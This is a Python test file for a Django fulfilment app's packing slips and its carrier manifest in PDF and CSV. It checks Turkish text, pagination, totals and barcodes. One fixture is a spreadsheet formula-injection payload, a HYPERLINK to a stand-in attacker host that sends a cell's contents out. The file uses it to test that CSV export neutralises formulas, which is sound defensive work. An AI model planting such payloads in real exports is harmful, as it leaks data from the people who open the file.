"""Packing slips and the carrier's end-of-day manifest (PDF and CSV)."""

import csv
import io
import re
from datetime import date

import pypdfium2 as pdfium
from django.utils import translation

from arkaofis.core.spreadsheets import unquoted_cell
from arkaofis.fulfilment.domain.parcels import Address
from arkaofis.fulfilment.labels import (
    Manifest,
    ManifestRow,
    PackingSlip,
    SlipLine,
    manifest_totals,
    render_manifest_csv,
    render_manifest_pdf,
    render_packing_slip,
)
from arkaofis.fulfilment.labels.samples import WAREHOUSE
from arkaofis.fulfilment.tests.test_labels_pdf import decoded, needs_zbar, pages_as_png

CUSTOMER = Address(
    name="Ğ ç ö ü ı Işıl",
    line1="Atatürk Bulvarı No: 27",
    district="Şişli",
    city="İstanbul",
    postal_code="34394",
    country="TR",
)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def pdf_text(pdf: bytes) -> tuple[int, str]:
    document = pdfium.PdfDocument(pdf)
    try:
        return len(document), "\n".join(document[n].get_textpage().get_text_range() for n in range(len(document)))
    finally:
        document.close()


def slip(number: str = "SO-000001", lines: int = 3) -> PackingSlip:
    return PackingSlip(
        order_number=number,
        shipment_number="SH-" + number[3:],
        ship_from=WAREHOUSE,
        ship_to=CUSTOMER,
        lines=[
            SlipLine(sku=f"ÇAY-{n}", name=f"Rize çayı {n} kg <organik> & taze", quantity=n) for n in range(1, lines + 1)
        ],
        box="K2 30×20×15 cm",
        order_date=date(2026, 12, 6),
        channel_reference="#1001",
    )


def test_a_packing_slip_lists_each_line_with_sku_name_and_quantity_in_turkish():
    pages, text = pdf_text(render_packing_slip([slip()]))
    assert pages == 1
    for expected in ("SO-000001", "SH-000001", "Ğ ç ö ü ı Işıl", "Şişli / İstanbul", "K2 30×20×15 cm", "#1001"):
        assert expected in text
    assert "ÇAY-2" in text and "Rize çayı 2 kg <organik> & taze" in text  # user text is not read as markup
    assert "Total" in text and "6" in text


def test_a_long_order_flows_onto_more_pages_and_a_batch_starts_each_slip_on_a_new_page():
    pages, text = pdf_text(render_packing_slip([slip("SO-000001", lines=80), slip("SO-000002")]))
    assert pages >= 3
    assert "ÇAY-80" in text and "SO-000002" in text
    document = pdfium.PdfDocument(render_packing_slip([slip("SO-000001"), slip("SO-000002")]))
    try:
        assert "SO-000002" in document[1].get_textpage().get_text_range()
        assert "SO-000002" not in document[0].get_textpage().get_text_range()
    finally:
        document.close()


def manifest(rows: int = 3) -> Manifest:
    return Manifest(
        carrier="Yurtiçi Kargo",
        ship_date=date(2026, 12, 7),
        ship_from=WAREHOUSE,
        number="MF-20261207-1",
        rows=[
            ManifestRow(
                shipment_number=f"SH-{n:06d}",
                order_number=f"SO-{n:06d}",
                tracking_number=f"YK{n:012d}",
                ship_to=Address(name=FORMULA, city="Ankara", country="TR") if n == 2 else CUSTOMER,
                weight_g=1000 + n,
                parcels=1 + n % 2,
                service="Standart",
            )
            for n in range(1, rows + 1)
        ],
    )


def test_manifest_totals_add_up_shipments_parcels_and_weight():
    totals = manifest_totals(manifest())
    assert (totals.shipments, totals.parcels, totals.weight_g) == (3, 5, 3006)


def test_the_manifest_csv_has_a_row_per_shipment_and_totals_and_no_live_formula():
    content = render_manifest_csv(manifest())
    assert content.startswith("\ufeff".encode())  # Excel reads Turkish letters only with the mark
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows[0][:3] == ["Shipment", "Order", "Tracking number"]
    assert rows[1] == [
        "SH-000001",
        "SO-000001",
        "YK000000000001",
        "Ğ ç ö ü ı Işıl",
        "Şişli / İstanbul",
        "TR",
        "Standart",
        "2",
        "1.001",
    ]
    assert rows[2][3] == "'" + FORMULA and unquoted_cell(rows[2][3]) == FORMULA
    assert rows[-1] == ["Total", "3", "", "", "", "", "", "5", "3.006"]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_the_manifest_pdf_lists_every_shipment_with_totals_over_several_pages():
    pages, text = pdf_text(render_manifest_pdf(manifest(rows=60)))
    assert pages >= 2
    assert "Manifest: Yurtiçi Kargo" in text and "MF-20261207-1" in text
    assert all(f"YK{n:012d}" in text for n in range(1, 61))
    assert "Şişli / İstanbul" in text and '=HYPERLINK("http://evil.ex' in text  # on paper a formula is text
    assert re.search(r"Total\s+60\s+90\s+61\.830", text)  # shipments, parcels, kilograms


def test_a_turkish_manifest_prints_kilograms_with_a_decimal_comma_but_the_csv_keeps_the_point():
    with translation.override("tr"):
        _pages, text = pdf_text(render_manifest_pdf(manifest()))
        content = render_manifest_csv(manifest())
    assert "Manifesto: Yurtiçi Kargo" in text and "3,006 kg" in text and "1,001" in text
    assert content.decode("utf-8-sig").splitlines()[-1].endswith(",3.006")  # a figure a program reads back


@needs_zbar
def test_the_packing_slip_carries_the_shipment_number_as_a_barcode_the_packing_station_scans(tmp_path):
    [first, *_rest] = pages_as_png(render_packing_slip([slip("SO-000042")]), tmp_path)
    assert decoded(first) == [("CODE-128", "", "SH-000042")]
